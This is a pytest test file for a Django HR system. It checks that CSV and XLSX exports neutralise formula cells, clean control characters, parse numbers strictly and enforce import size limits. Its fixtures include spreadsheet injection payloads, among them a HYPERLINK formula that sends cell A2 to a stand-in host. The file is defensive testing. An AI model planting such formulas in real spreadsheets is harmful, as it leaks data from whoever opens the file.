"""Hostile cells: exports carry no live formula and no XML-forbidden character; imports parse numbers
strictly, read spreadsheets streaming, and refuse files beyond the row and size caps."""

import csv
import datetime
import decimal
import io

import openpyxl
import pytest
from django.test import override_settings

from exchange import tables
from exchange.cells import CellError, parse_decimal, parse_int
from exchange.tables import Column, read_table
from exchange.writers import ExportTable, write_csv, write_xlsx
from hr.models import Employee
from tests.exchange.conftest import csv_bytes, export_url, person, xlsx_bytes
from tests.factories import EmployeeFactory
from tests.matrix.discipline import discipline

EMPLOYEES = "/api/v1/exports/employees/"
COMMENDATIONS = "/api/v1/imports/commendations/"
HOSTILE = ['=HYPERLINK("http://x/?"&A2,"Xem")', "=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'=quoted"]


def _table(values) -> ExportTable:
    columns = [Column("text", "Văn bản"), Column("number", "Số"), Column("day", "Ngày")]
    rows = [{"text": value, "number": -5, "day": datetime.date(2025, 1, 2)} for value in values]
    return ExportTable(title="Thử", columns=columns, rows=rows)


def _csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


class FormulaTests:
    def test_csv_cells_that_would_be_formulas_start_with_an_apostrophe(self):
        rows = _csv_cells(write_csv(_table(HOSTILE)))[1:]
        assert [row[0] for row in rows] == [f"'{value}" for value in HOSTILE]
        # Real numbers and dates stay what they are.
        assert {(row[1], row[2]) for row in rows} == {("-5", "2025-01-02")}

    def test_xlsx_holds_no_formula_and_keeps_numbers_and_dates(self):
        sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx(_table(HOSTILE)))).active
        texts = [row[0] for row in sheet.iter_rows(min_row=2)]
        assert {cell.data_type for cell in texts} == {"s"}
        assert [cell.value for cell in texts] == [f"'{value}" for value in HOSTILE]
        numbers = [row[1] for row in sheet.iter_rows(min_row=2)]
        assert {(cell.data_type, cell.value) for cell in numbers} == {("n", -5)}
        assert sheet["C2"].is_date

    def test_plain_text_is_left_alone(self):
        rows = _csv_cells(write_csv(_table(["Lò Thị Hương", "15/QĐ-SNV", "a=b", "'quoted"])))[1:]
        assert [row[0] for row in rows] == ["Lò Thị Hương", "15/QĐ-SNV", "a=b", "'quoted"]

    @pytest.mark.django_db
    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    def test_employee_and_discipline_exports_are_neutralised(self, org, as_user, fmt):
        EmployeeFactory(unit=org.a.room, full_name='=HYPERLINK("http://x/?"&A2,"Xem")')
        discipline(org.a.staff.employee, decision_number="=1+1")
        client = as_user(org.admin)
        for url, header in ((EMPLOYEES, "Họ và tên"), ("/api/v1/exports/discipline-summary/", None)):
            response = client.get(export_url(url, fmt))
            assert response.status_code == 200
            cells = _cells(response.content, fmt)
            assert not [cell for cell in cells if isinstance(cell, str) and cell.startswith("=")]
            if header:
                assert '\'=HYPERLINK("http://x/?"&A2,"Xem")' in cells

    @pytest.mark.django_db
    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    def test_import_then_export_keeps_the_original_text(self, org, as_user, post_import, fmt):
        name = "=Lò Thị Hương"
        if fmt == "xlsx":
            # openpyxl (like Excel) stores typed "=…" as a formula; a text cell carries the apostrophe.
            content = xlsx_bytes([person("SNV", 1, **{"Họ và tên": f"'{name}"})])
        else:
            content = csv_bytes([person("SNV", 1, **{"Họ và tên": name})])
        assert post_import(org.admin, content, name=f"a.{fmt}").status_code == 200
        assert Employee.objects.get(national_id="011191000001").full_name == name
        exported = as_user(org.admin).get(export_url(EMPLOYEES, fmt)).content
        Employee.objects.filter(national_id="011191000001").update(full_name="khác")
        response = post_import(org.admin, exported, name=f"b.{fmt}")
        assert response.status_code == 200, response.data
        assert Employee.objects.get(national_id="011191000001").full_name == name


def _cells(content: bytes, fmt: str) -> list:
    if fmt == "csv":
        return [cell for row in _csv_cells(content) for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


class ControlCharacterExportTests:
    @pytest.mark.django_db
    def test_stored_control_characters_are_cleaned_on_export(self, org, as_user):
        # NUL cannot be stored in PostgreSQL text at all; the other forbidden controls can, from older data.
        EmployeeFactory(unit=org.a.room, full_name="Lò\x0bVăn\x1fĐức")
        for fmt in ("xlsx", "csv"):
            response = as_user(org.admin).get(export_url(EMPLOYEES, fmt))
            assert response.status_code == 200
            assert "LòVănĐức" in _cells(response.content, fmt)


class StrictNumberTests:
    @pytest.mark.parametrize("text", ["Infinity", "-Infinity", "NaN", "sNaN", "inf", "1e1000000", "1_000", "١٢"])
    def test_non_numbers_are_a_cell_error(self, text):
        with pytest.raises(CellError):
            parse_int(text)
        with pytest.raises(CellError):
            parse_decimal(text)

    @pytest.mark.parametrize(("text", "value"), [("2", 2), ("-3", -3), ("4.0", 4), ("5,0", 5), ("1e2", 100)])
    def test_whole_numbers(self, text, value):
        assert parse_int(text) == value

    def test_decimals(self):
        assert parse_decimal("2,34") == decimal.Decimal("2.34")
        with pytest.raises(CellError):
            parse_int("2.5")

    @pytest.mark.django_db
    @pytest.mark.parametrize("bad", ["Infinity", "-Infinity", "sNaN", "NaN", "1e1000000"])
    def test_import_reports_a_row_error(self, org, post_import, bad):
        row = _commendation(org, **{"Năm thi đua": bad})
        response = post_import(org.admin, csv_bytes([row]), dry_run=True, url=COMMENDATIONS)
        assert response.status_code == 200
        assert [(e["row"], e["column"]) for e in response.data["errors"]] == [(2, "Năm thi đua")]


def _commendation(org, **changes) -> dict:
    row = {
        "Số định danh cá nhân": org.a.staff.employee.national_id,
        "Danh hiệu/hình thức": "LDTT",
        "Năm thi đua": "2025",
        "Số quyết định": "12/QĐ-SNV",
        "Cơ quan ban hành": "Giám đốc Sở Nội vụ",
        "Ngày quyết định": "10/01/2026",
    }
    row.update(changes)
    return row


class FileBoundTests:
    @pytest.mark.django_db
    @override_settings(IMPORT_MAX_ROWS=3)
    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    def test_too_many_rows_is_a_400_with_a_code(self, org, post_import, fmt):
        rows = [person("SNV", serial) for serial in range(4)]
        content = csv_bytes(rows) if fmt == "csv" else xlsx_bytes(rows)
        response = post_import(org.admin, content, name=f"a.{fmt}", dry_run=True)
        assert response.status_code == 400
        assert response.data["code"] == "too_many_rows"
        assert "file" in response.data["fields"]

    @pytest.mark.django_db
    @override_settings(IMPORT_MAX_ROWS=3)
    def test_at_the_cap_is_fine(self, org, post_import):
        rows = [_commendation(org, **{"Số quyết định": f"{serial}/QĐ-SNV"}) for serial in range(3)]
        response = post_import(org.admin, csv_bytes(rows), dry_run=True, url=COMMENDATIONS)
        assert response.status_code == 200
        assert response.data["rows"] == 3

    @pytest.mark.django_db
    @override_settings(IMPORT_MAX_BYTES=100)
    def test_too_large_is_a_400_with_a_code(self, org, post_import):
        response = post_import(org.admin, csv_bytes([person("SNV", 1), person("SNV", 2)]), dry_run=True)
        assert response.status_code == 400
        assert response.data["code"] == "file_too_large"

    def test_workbooks_are_read_in_streaming_mode(self, monkeypatch):
        opened = []
        real = tables.load_workbook

        def spy(*args, **kwargs):
            opened.append(kwargs)
            return real(*args, **kwargs)

        monkeypatch.setattr(tables, "load_workbook", spy)
        content = xlsx_bytes([{"Số": 1, "Tên": "'=x", "Ngày": datetime.datetime(2025, 1, 2)}])
        table = read_table(
            content,
            filename="a.xlsx",
            columns=[Column("n", "Số"), Column("name", "Tên"), Column("day", "Ngày")],
            ignored=frozenset(),
            errors=tables.RowErrors(),
        )
        assert opened[0]["read_only"] is True
        assert table.rows == [{"n": "1", "name": "=x", "day": "2025-01-02 00:00:00"}]
